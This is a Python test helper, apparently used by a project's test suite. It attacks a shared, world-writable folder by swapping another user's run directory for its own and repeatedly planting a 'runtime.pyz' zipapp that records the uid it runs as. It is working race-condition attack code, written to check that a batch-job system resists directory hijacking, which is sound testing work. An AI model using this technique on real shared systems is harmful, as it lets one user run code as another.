"""The attack on a rendezvous folder that another user can write, run as that user by
tests/test_shared_systems.py (standard library only, any python3).

    python3 sharedattack.py FOLDER PREFIX MARKER REPORT SECONDS

Watches FOLDER for a new directory whose name starts with PREFIX (a run directory),
renames it aside, makes one of its own in its place (mode 0777), and keeps writing its
own ``runtime.pyz`` there, a zipapp that writes the uid it ran as to MARKER. Where the
rename is refused, it tries to write into the run directory itself. Each step is a JSON
line in REPORT: ``{"step": "seen"|"renamed"|"rename refused"|"planted"|"plant refused",
"name": ..., "error": ...}``. Runs SECONDS seconds, or until SIGTERM.
"""

import io
import json
import os
import signal
import sys
import time
import zipfile

#: a run directory's folders (RunLayout.SUBDIRS, and the logs a batch system writes to)
SUBDIRS = ("tasks", "logs", "pyhook")


def evil_archive(marker: str) -> bytes:
    code = ("import os\nwith open(%r, 'w') as f:\n    f.write(str(os.getuid()))\n"
            % marker)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("__main__.py", code)
    return buffer.getvalue()


def main(folder: str, prefix: str, marker: str, report: str, seconds: float) -> None:
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    payload = evil_archive(marker)
    seen = set()
    planted = {}  # run directory of its own: when it was put in place

    def say(step: str, name: str, error: str = "") -> None:
        with open(report, "a") as out:
            out.write(json.dumps({"step": step, "name": name, "error": error}) + "\n")

    def plant(run_dir: str) -> None:
        tmp = os.path.join(run_dir, ".evil-%d" % os.getpid())
        with open(tmp, "wb") as out:
            out.write(payload)
        os.rename(tmp, os.path.join(run_dir, "runtime.pyz"))

    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            names = os.listdir(folder)
        except OSError:
            names = []
        for name in names:
            if not name.startswith(prefix) or name in seen:
                continue
            seen.add(name)
            say("seen", name)
            path = os.path.join(folder, name)
            try:
                os.rename(path, os.path.join(folder, ".aside-" + name))
                os.mkdir(path)
                os.chmod(path, 0o777)
                planted[path] = time.monotonic()
                say("renamed", name)
            except OSError as exc:
                say("rename refused", name, exc.strerror or str(exc))
                try:
                    plant(path)
                    say("planted", name)
                except OSError as exc:
                    say("plant refused", name, exc.strerror or str(exc))
        for path in planted:  # again and again: the submitter writes its own over it
            try:
                plant(path)
            except OSError:
                pass
            if time.monotonic() > planted[path] + 0.3:  # the submitter is done: the
                for sub in SUBDIRS:  # folders it made before the rename, for the job
                    try:
                        os.mkdir(os.path.join(path, sub), 0o777)
                    except OSError:
                        pass
        time.sleep(0.002)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], float(sys.argv[5]))
